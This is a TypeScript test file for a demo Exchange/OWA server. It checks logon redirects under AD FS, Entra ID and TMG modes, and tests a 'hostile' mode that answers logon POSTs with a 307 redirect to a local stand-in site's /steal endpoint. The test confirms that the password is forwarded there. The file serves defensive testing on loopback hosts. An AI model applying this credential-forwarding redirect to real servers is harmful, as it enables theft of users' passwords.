// The demo Exchange where forms logon is not available (AD FS, Entra ID, ISA/TMG), and turned hostile.
import { afterEach, describe, expect, it } from 'vitest';
import { startDemoExchange, type DemoExchange } from '../demo';
import { client, readForm } from './helpers/http-client';
import { startHostileSite } from '../demo/hostile-site';

let demo: DemoExchange | undefined;
afterEach(async () => {
  await demo?.close();
  demo = undefined;
});

describe('demo Exchange: non-forms modes', () => {
  it('AD FS: /owa/ and even auth.owa go to /adfs/ls/?wa=wsignin1.0 with a TimeWindow cookie', async () => {
    demo = await startDemoExchange({ generation: '2010', fbaMode: 'adfs' });
    const c = client(demo.origin);
    const response = await c.get('/owa/');
    expect(response.status).toBe(302);
    const location = new URL(response.headers.get('location') ?? '');
    expect(`${location.origin}${location.pathname}`).toBe(`${demo.origin}/adfs/ls/`);
    expect(location.searchParams.get('wa')).toBe('wsignin1.0');
    expect(location.searchParams.get('wtrealm')).toBe(`${demo.origin}/owa/`);
    expect(c.jar.cookies.has('TimeWindow')).toBe(true);

    const page = readForm(await (await c.get(location.pathname + location.search)).text());
    expect([...page.inputs.keys()]).toEqual(['UserName', 'Password', 'AuthMethod']);

    const post = await c.post('/owa/auth.owa', new URLSearchParams({ destination: `${demo.origin}/owa/`, flags: '0', username: 'alice', password: 'Demo-Passw0rd' }));
    expect(post.status).toBe(302);
    expect(post.headers.get('location')).toContain('/adfs/ls/?wa=wsignin1.0');
    expect(demo.sessions()).toEqual([]);
    expect(demo.logonPosts().map((r) => r.url)).toEqual(['/owa/auth.owa']);
  });

  it('Entra: /owa/ goes to login.microsoftonline.com', async () => {
    demo = await startDemoExchange({ generation: '2010', fbaMode: 'entra' });
    const response = await client(demo.origin).get('/owa/');
    expect(response.status).toBe(302);
    const location = new URL(response.headers.get('location') ?? '');
    expect(location.origin).toBe('https://login.microsoftonline.com');
    expect(location.pathname).toMatch(/^\/[0-9a-f-]{36}\/oauth2\/authorize$/);
    expect(location.searchParams.get('redirect_uri')).toBe(`${demo.origin}/owa/`);
  });

  it('TMG: /owa/ goes to CookieAuth.dll?GetLogon, whose form has curl, formdir, trusted, flags, username, password, SubmitCreds', async () => {
    demo = await startDemoExchange({ generation: '2010', fbaMode: 'tmg' });
    const c = client(demo.origin);
    const response = await c.get('/owa/');
    expect(response.headers.get('location')).toBe(`${demo.origin}/CookieAuth.dll?GetLogon?curl=Z2Fowa&reason=0&formdir=3`);
    const form = readForm(await (await c.get(response.headers.get('location') ?? '')).text());
    expect(form.action).toBe('/CookieAuth.dll?Logon');
    for (const name of ['curl', 'formdir', 'trusted', 'flags', 'username', 'password', 'SubmitCreds']) expect(form.inputs.has(name), name).toBe(true);
    expect(form.fields.get('curl')).toBe('Z2Fowa');

    const wrong = await c.post('/CookieAuth.dll?Logon', new URLSearchParams({ ...Object.fromEntries(form.fields), username: 'alice', password: 'nope' }));
    expect(wrong.headers.get('location')).toBe(`${demo.origin}/CookieAuth.dll?GetLogon?curl=Z2Fowa&reason=2&formdir=3`);
    expect(demo.logonPosts()).toHaveLength(1);
  });

  it('TMG in front of 2003 points curl at /exchange', async () => {
    demo = await startDemoExchange({ generation: '2003', fbaMode: 'tmg' });
    const response = await client(demo.origin).get('/exchange/');
    expect(response.headers.get('location')).toContain('curl=Z2Fexchange&');
  });

  it('refuses AD FS or Entra for 2003', async () => {
    await expect(startDemoExchange({ generation: '2003', fbaMode: 'adfs' })).rejects.toThrow(/needs generation '2010'/);
  });
});

describe('demo Exchange turned hostile, and the hostile site', () => {
  it('redirectLogonPosts: every logon POST is recorded and answered with the redirect; null restores sign-ins', async () => {
    demo = await startDemoExchange({ generation: '2010', users: { alice: 'Demo-Passw0rd' } });
    const hostile = await startHostileSite();
    try {
      expect(new URL(hostile.origin).hostname).toBe('127.0.0.2');
      demo.redirectLogonPosts({ status: 307, location: `${hostile.origin}/steal` });
      const form = new URLSearchParams({ destination: `${demo.origin}/owa/`, flags: '0', username: 'alice', password: 'Demo-Passw0rd' });
      const manual = await fetch(`${demo.origin}/owa/auth.owa`, { method: 'POST', body: form, redirect: 'manual' });
      expect(manual.status).toBe(307);
      expect(manual.headers.get('location')).toBe(`${hostile.origin}/steal`);
      expect(demo.sessions()).toEqual([]);
      // What a client that follows redirects does: the body goes on to the other host.
      await fetch(`${demo.origin}/owa/auth.owa`, { method: 'POST', body: form, redirect: 'follow' });
      expect(hostile.requests.map((r) => [r.method, r.url, new URLSearchParams(r.body).get('password')])).toEqual([['POST', '/steal', 'Demo-Passw0rd']]);
      demo.redirectLogonPosts(null);
      expect((await fetch(`${demo.origin}/owa/auth.owa`, { method: 'POST', body: form, redirect: 'manual' })).status).toBe(302);
      expect(demo.sessions()).toHaveLength(1);
      expect(demo.logonPosts()).toHaveLength(3);
    } finally {
      await hostile.close();
    }
  });
});
